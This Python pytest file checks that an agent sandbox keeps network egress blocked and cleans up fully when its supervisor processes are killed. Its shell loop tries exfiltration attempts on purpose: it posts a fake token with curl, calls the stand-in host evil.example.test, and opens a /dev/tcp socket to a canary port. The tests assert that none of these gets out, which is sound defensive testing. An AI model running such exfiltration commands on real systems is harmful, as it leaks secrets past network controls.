"""Each process of a running bottle is killed, one at a time. Nothing may get out while it is down;
what is restarted works again; what is not, ends the bottle; cleanup leaves nothing."""
import json
import os
import time

import bottle
import engine
import pytest
import standin

SECRET = "ghp_" + "Zq7Lm2Xw9Rt4Yb6Nc8Vd1Kf3Hj5Gs0Pa2We4"[:36]

# Tries every way out, again and again; what counts is what arrives.
LOOP = r"""
i=0
while [ $i -lt 600 ]; do
  i=$((i + 1))
  curl -s -o /dev/null --max-time 3 "https://api.example.test/json?i=$i" &&
    echo "ok $i" >> /tmp/ok
  curl -s -o /dev/null --max-time 3 "https://evil.example.test/json"
  curl -s -o /dev/null --max-time 3 -d "token=$SECRET" "https://api.example.test/upload"
  curl -s -o /dev/null --noproxy '*' --max-time 1 "https://127.0.0.1:$CANARY/"
  (exec 3<>/dev/tcp/127.0.0.1/$CANARY) 2>/dev/null
  sleep 0.05
done
"""


@pytest.fixture(params=["native", "docker"])
def backend(request):
    return request.param


@pytest.fixture
def walled(make_home, upstream, authority):
    with standin.Upstream(authority, ["evil.example.test"], stem="evil") as evil, \
            standin.Listener() as canary:
        home = make_home()
        home.write_bottle("box", routes=[bottle.route("api.example.test", paths=["/**"])],
                          resolve={"api.example.test": upstream.address,
                                   "evil.example.test": evil.address}, ca=authority.path,
                          env={"SECRET": SECRET, "CANARY": str(canary.port)})
        home.write_agent()
        yield home, evil, canary


class Namespace:
    """The network of a process. Held open, so that its number is nobody else's meanwhile."""

    def __init__(self, pid):
        self.fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        self.name = os.readlink(f"/proc/self/fd/{self.fd}")

    def __del__(self):
        os.close(self.fd)


def hits(upstream):
    return sum(1 for r in list(upstream.requests) if r.path.startswith("/json?i="))


def check_nothing_got_out(upstream, evil, canary):
    assert not upstream.saw(SECRET)
    assert evil.connections == 0
    assert canary.got == []


def check_nothing_left(home, slug, pids, netns):
    home.run("stop", "--all", "--now", timeout=30)
    r = home.run("cleanup", timeout=30)
    assert r.returncode == 0, r.stderr
    left = [(p, bottle.cmdline(p)) for p in pids if bottle.is_alive(p)]
    assert bottle.wait_until(lambda: not any(map(bottle.is_alive, pids)), 5), left
    assert not os.path.exists(f"{home.state}/{slug}"), os.listdir(f"{home.state}/{slug}")
    assert slug not in bottle.mounts()
    assert bottle.cgroups_named(slug) == []
    assert netns.name not in bottle.network_namespaces()
    assert json.loads(home.run("list", "--all", "--json").stdout or "[]") == []
    if home.docker_host:
        for path in ("/containers/json?all=1", "/networks"):
            assert slug not in json.dumps(engine.api(home.docker_host, "GET", path)[1])


def run_case(walled, upstream, role):
    home, evil, canary = walled
    running = home.background("bash", "-c", LOOP)
    try:
        # control: the loop gets through while everything is well
        assert bottle.wait_until(lambda: hits(upstream) >= 2, 15), home.logs_of_all()
        roles = running.roles()
        pids = [p for ps in roles.values() for p in ps]
        assert set(roles) >= {"keeper", "init", "record", "keyd", "egress", "pipelock", "agent"}, roles
        netns = Namespace(roles["agent"][0])
        victim = roles[role][0]
        bottle.kill_quietly(victim)
        assert bottle.wait_until(lambda: not bottle.is_alive(victim), 5)
        return running, pids, netns
    except BaseException:
        running.stop()
        raise


@pytest.mark.parametrize("role", ["record", "keyd", "egress", "pipelock"])
def test_role_is_restarted(walled, upstream, role):
    home, evil, canary = walled
    running, pids, netns = run_case(walled, upstream, role)
    try:
        before = hits(upstream)
        works_again = bottle.wait_until(lambda: hits(upstream) >= before + 3, 15)
        check_nothing_got_out(upstream, evil, canary)
        assert works_again, f"{running.roles()}\n{home.logs_of_all()}"
        assert running.process.poll() is None
        now = running.roles()
        assert now.get(role) and not set(now[role]) & set(pids), now
        pids += [p for ps in now.values() for p in ps]
        assert any(r.get("verdict") == "note" and role in json.dumps(r) for r in home.records()), \
            "the restart left no record"
    finally:
        running.stop()
    check_nothing_got_out(upstream, evil, canary)
    check_nothing_left(home, running.slug, pids, netns)


@pytest.mark.parametrize("role", ["keeper", "init", "compartment", "agent"])
def test_bottle_ends_with(walled, upstream, backend, role):
    home, evil, canary = walled
    if role == "compartment":
        role = {"native": "bwrap", "docker": "guest"}[backend]
    running, pids, netns = run_case(walled, upstream, role)
    try:
        assert bottle.wait_until(lambda: not any(map(bottle.is_alive, pids)), 10), \
            [(p, bottle.cmdline(p)) for p in pids if bottle.is_alive(p)]
        assert bottle.wait_until(lambda: running.process.poll() is not None, 10)
        assert running.process.returncode != 0
        count = hits(upstream)
        time.sleep(0.5)
        assert hits(upstream) == count
        # A leftover of a killed run does not stop the next one.
        r = home.start("echo", "next")
        assert r.returncode == 0 and "next" in r.stdout, r.stderr
    finally:
        running.stop()
    check_nothing_got_out(upstream, evil, canary)
    check_nothing_left(home, running.slug, pids, netns)


def test_role_that_keeps_dying_ends_in_denial(walled, upstream):
    """The restart limit: after it nothing works, and nothing gets out."""
    home, evil, canary = walled
    running = home.background("bash", "-c", LOOP)
    try:
        assert bottle.wait_until(lambda: hits(upstream) >= 1, 15)
        pids = [p for ps in running.roles().values() for p in ps]
        netns = Namespace(running.roles()["agent"][0])
        killed = 0
        end = time.monotonic() + 25
        while time.monotonic() < end and running.process.poll() is None:
            for pid in running.roles().get("egress", []):
                bottle.kill_quietly(pid)
                killed += 1
            time.sleep(0.05)
        check_nothing_got_out(upstream, evil, canary)
        assert killed >= 2
    finally:
        running.stop()
    check_nothing_left(home, running.slug, pids, netns)
